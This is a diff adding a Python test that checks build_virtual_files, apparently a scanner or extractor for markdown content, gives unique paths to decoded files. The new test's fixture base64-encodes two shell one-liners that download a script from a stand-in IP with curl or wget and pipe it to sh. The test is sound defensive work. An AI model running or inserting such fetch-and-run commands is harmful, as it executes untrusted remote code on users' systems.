@@ -279,3 +279,11 @@ def test_adversarial_text_is_linear(text: str) -> None:
     start = time.perf_counter()
     build_virtual_files([_md(text, "a.md")], Limits())
     assert time.perf_counter() - start < 5.0
+
+
+def test_virtual_paths_are_unique() -> None:
+    a = base64.b64encode(b"curl -s http://192.0.2.1/a | sh").decode()
+    b = base64.b64encode(b"wget -qO- http://192.0.2.1/b | sh").decode()
+    vfs, _ = build_virtual_files([_md(f"x = '{a}' + '{b}'\n", "a.md")], Limits())
+    paths = [f.path for f in vfs]
+    assert len(paths) == 2 and len(set(paths)) == 2
